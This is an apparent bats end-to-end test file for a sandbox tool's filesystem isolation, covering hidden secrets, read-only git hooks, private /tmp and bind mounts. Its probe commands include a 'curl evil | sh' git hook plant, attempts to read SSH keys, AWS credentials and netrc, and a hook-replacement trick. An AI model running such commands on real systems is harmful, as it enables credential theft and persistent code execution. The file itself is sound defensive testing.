#!/usr/bin/env bats
# Filesystem view: workspace read-write, rest read-only, secrets hidden, /tmp private,
# protected files in the workspace, bind mounts from the config.
bats_require_minimum_version 1.5.0
load sandbox_common

setup() { sandbox_setup; }
teardown() {
  [[ -n ${TMPROOT:-} ]] && rm -rf "$TMPROOT"
  sandbox_teardown
}

@test "writes outside the workspace do not land on the host" {
  run sbx -- sh -c "touch '$HOME/outside' ; echo x > '$ROOT/also'; touch /etc/vg-e2e-probe; true"
  [ "$status" -eq 0 ]
  [ ! -e "$HOME/outside" ]
  [ ! -e "$ROOT/also" ]
  [ ! -e /etc/vg-e2e-probe ]
}

@test "workspace writes land, owned by the invoking user" {
  run sbx -- sh -c 'mkdir -p out && echo built > out/result.txt'
  [ "$status" -eq 0 ]
  [ "$(cat "$WS/out/result.txt")" = built ]
  [ "$(stat -c %u "$WS/out/result.txt")" = "$(id -u)" ]
  [ "$(stat -c %g "$WS/out/result.txt")" = "$(id -g)" ]
}

@test "~/.ssh and ~/.aws are unreadable inside" {
  run --separate-stderr sbx -- sh -c "cat '$HOME/.ssh/id_ed25519'; ls '$HOME/.ssh'; cat '$HOME/.aws/credentials'"
  [[ $output != *ssh-secret* ]]
  [[ $output != *aws-secret* ]]
  [[ $output != *id_ed25519* ]]
  [ "$status" -ne 0 ]
}

@test "secret files (netrc, shell history) are unreadable" {
  run --separate-stderr sbx -- sh -c "cat '$HOME/.netrc' '$HOME/.bash_history'"
  [ "$status" -ne 0 ]
  [ -z "$output" ]
  run --separate-stderr sbx -- sh -c "echo planted > '$HOME/.bash_history'"
  [ "$status" -ne 0 ]
  [ "$(cat "$HOME/.bash_history")" = history-secret ]
}

@test "secrets stay hidden when the workspace is the home directory" {
  cd "$HOME"
  run --separate-stderr sbx -- sh -c "cat .ssh/id_ed25519 .netrc; touch made-in-home"
  [[ $output != *ssh-secret* && $output != *netrc-secret* ]]
  if [[ $SBX_RUNTIME == landlock ]]; then
    # Landlock cannot grant a directory minus its secrets: the home's own entries stay
    # read-only (only its other subdirectories are writable), and it says so.
    [ ! -e "$HOME/made-in-home" ]
    declares_not_enforced "$HOME read-write"
    return
  fi
  [ -e "$HOME/made-in-home" ]
}

@test "VG_HOME is hidden and not writable" {
  run --separate-stderr sbx -- sh -c "cat '$VG_HOME/trust.json'; touch '$VG_HOME/planted'; echo '{}' > '$VG_HOME/trust.json'"
  [ "$status" -ne 0 ]
  [[ $output != *trusted* ]]
  [ ! -e "$VG_HOME/planted" ]
  [ "$(cat "$VG_HOME/trust.json")" = '{"trusted": []}' ]
}

@test ".git/hooks and .git/config are read-only in the workspace" {
  if [[ $SBX_RUNTIME == landlock ]]; then
    declares_not_enforced "$WS/.git/hooks read-only"
    declares_not_enforced "$WS/.git/config read-only"
    return
  fi
  run sbx -- sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit; echo "[core] hooksPath=/x" >> .git/config; touch .git/hooks/post-checkout'
  [ "$status" -ne 0 ]
  [ "$(cat "$WS/.git/hooks/pre-commit")" = "$(printf '#!/bin/sh\nexit 0')" ]
  ! grep -q hooksPath "$WS/.git/config"
  [ ! -e "$WS/.git/hooks/post-checkout" ]
  # The rest of .git stays writable: git must work.
  run sbx -- sh -c 'echo ref > .git/HEAD_probe'
  [ "$status" -eq 0 ]
  [ -e "$WS/.git/HEAD_probe" ]
}

@test ".git cannot be moved aside and replaced by one with other hooks" {
  if [[ $SBX_RUNTIME == landlock ]]; then
    declares_not_enforced "$WS/.git/hooks read-only"
    return
  fi
  run sbx -- sh -c 'mv .git .git-aside || exit 3; mkdir -p .git/hooks; printf "#!/bin/sh\ntouch /tmp/owned\n" > .git/hooks/pre-commit'
  [ "$status" -eq 3 ]
  [ -d "$WS/.git/hooks" ] && [ ! -e "$WS/.git-aside" ]
  [ "$(cat "$WS/.git/hooks/pre-commit")" = "$(printf '#!/bin/sh\nexit 0')" ]
  run sbx -- sh -c 'rm -rf .git; test -d .git/hooks'
  [ "$status" -eq 0 ]
  [ -f "$WS/.git/config" ]
}

@test "the project's vectra-guard.ini is read-only" {
  printf '[sandbox]\nsecurity_level = strict\n' >"$WS/vectra-guard.ini"
  if [[ $SBX_RUNTIME == landlock ]]; then
    declares_not_enforced "$WS/vectra-guard.ini read-only"
    return
  fi
  run sbx -- sh -c 'echo "[sandbox]" > vectra-guard.ini'
  [ "$status" -ne 0 ]
  grep -q strict "$WS/vectra-guard.ini"
}

@test "/tmp is private" {
  if [[ $SBX_RUNTIME == landlock ]]; then
    # No mount namespace: the host's /tmp is read-only and TMPDIR is the sandbox's own.
    run --separate-stderr sbx -- sh -c 'echo inside > "$TMPDIR/f" && cat "$TMPDIR/f" && echo "$TMPDIR" && ! touch /tmp/vg-e2e-inside-'$$
    [ "$status" -eq 0 ]
    [ "${lines[0]}" = inside ]
    [ ! -e "${lines[1]}" ] && [ ! -e /tmp/vg-e2e-inside-$$ ]
    declares_not_enforced "private /tmp"
    return
  fi
  marker=$(mktemp /tmp/vg-e2e-host.XXXXXX)
  run --separate-stderr sbx -- sh -c "ls '$marker' 2>/dev/null; echo inside > /tmp/vg-e2e-inside-$$; cat /tmp/vg-e2e-inside-$$"
  rm -f "$marker"
  [ "$status" -eq 0 ]
  [ "$output" = inside ]
  [ ! -e /tmp/vg-e2e-inside-$$ ]
}

@test "VG_HOME under /tmp: the sandbox starts and VG_HOME stays hidden" {
  TMPROOT=$(mktemp -d /tmp/vg-e2e-tmp.XXXXXX)
  export VG_HOME=$TMPROOT/vghome
  mkdir -p "$VG_HOME"
  echo '{"trusted": []}' >"$VG_HOME/trust.json"
  run --separate-stderr sbx -- sh -c "cat '$VG_HOME/trust.json' 2>/dev/null; echo ran"
  [ "$status" -eq 0 ]
  [ "$output" = ran ]
}

@test "a workspace under /tmp: the secrets below it stay hidden on top of the private /tmp" {
  TMPROOT=$(mktemp -d /tmp/vg-e2e-tmp.XXXXXX)
  export HOME=$TMPROOT/home VG_HOME=$TMPROOT/home/.vectra-guard
  mkdir -p "$HOME/.ssh" "$VG_HOME"
  echo "ssh-secret-$$" >"$HOME/.ssh/id_ed25519"
  echo "machine x login u password netrc-secret" >"$HOME/.netrc"
  echo '{"trusted": []}' >"$VG_HOME/trust.json"
  echo workspace-file >"$HOME/notes.txt"
  cd "$HOME"
  run --separate-stderr sbx -- sh -c "cat notes.txt; cat .ssh/id_ed25519 .netrc .vectra-guard/trust.json 2>/dev/null; echo ran"
  [ "$status" -eq 0 ]
  [ "${lines[0]}" = workspace-file ]
  [ "${lines[1]}" = ran ]
}

@test "/proc is the sandbox's own and /dev is minimal" {
  if [[ $SBX_RUNTIME == landlock ]]; then
    declares_not_enforced "PID namespace"
    declares_not_enforced "minimal /dev"
    disk=$(ls /dev/vda /dev/sda /dev/nvme0n1 2>/dev/null | head -n 1)
    [ -n "$disk" ]
    run --separate-stderr sbx -- sh -c "head -c 16 '$disk' | wc -c; echo x > /dev/null && echo null-ok; : > /dev/shm/vg-e2e-$$"
    [ "${lines[0]}" = 0 ]
    [ "${lines[1]}" = null-ok ]
    [ "$status" -ne 0 ]
    [ ! -e /dev/shm/vg-e2e-$$ ]
    return
  fi
  run --separate-stderr sbx -- sh -c 'ls /proc | grep -c "^[0-9]"; ls /dev'
  [ "$status" -eq 0 ]
  [ "${lines[0]}" -le 4 ]
  [[ $output == *null* && $output == *urandom* ]]
  [[ $output != *sda* && $output != *vda* && $output != *nvme* ]]
}

@test "bind_mounts from the config: ro is read-only, rw is writable" {
  mkdir -p "$ROOT/cache" "$ROOT/data" "$ROOT/mnt-data"
  echo seed >"$ROOT/data/input"
  printf '[sandbox]\nbind_mounts = %s:rw, %s:%s:ro\n' "$ROOT/cache" "$ROOT/data" "$ROOT/mnt-data" >"$ROOT/binds.ini"
  if [[ $SBX_RUNTIME == landlock ]]; then
    # Landlock grants rights in place: the rw source is writable, a moved one is declared.
    run --separate-stderr "$VG" --config "$ROOT/binds.ini" sandbox run --verbose -- sh -c "echo cached > '$ROOT/cache/entry'"
    [ "$status" -eq 0 ]
    [ "$(cat "$ROOT/cache/entry")" = cached ]
    [[ $stderr == *"Not enforced: bind $ROOT/data at $ROOT/mnt-data"* ]]
    return
  fi
  run --separate-stderr "$VG" --config "$ROOT/binds.ini" sandbox run -- sh -c \
    "echo cached > '$ROOT/cache/entry' && cat '$ROOT/mnt-data/input' && ! echo x > '$ROOT/mnt-data/input'"
  [ "$status" -eq 0 ]
  [[ $output == *seed* ]]
  [ "$(cat "$ROOT/cache/entry")" = cached ]
  [ "$(cat "$ROOT/data/input")" = seed ]
}

@test "a bind mount target that cannot exist fails closed with a sentence" {
  mkdir -p "$ROOT/data"
  printf '[sandbox]\nbind_mounts = %s:/vg-e2e-no-such-dir\n' "$ROOT/data" >"$ROOT/bad.ini"
  run --separate-stderr "$VG" --config "$ROOT/bad.ini" sandbox run -- echo ran
  [ "$status" -eq 125 ]
  [[ $output != *ran* ]]
  [[ $stderr == *"bind mount target"* ]]
}

@test "a missing bind mount source fails closed with a sentence" {
  printf '[sandbox]\nbind_mounts = %s/nope\n' "$ROOT" >"$ROOT/bad.ini"
  run --separate-stderr "$VG" --config "$ROOT/bad.ini" sandbox run -- echo ran
  [ "$status" -eq 125 ]
  [[ $output != *ran* ]]
  [[ $stderr == *"bind mount source"* ]]
}
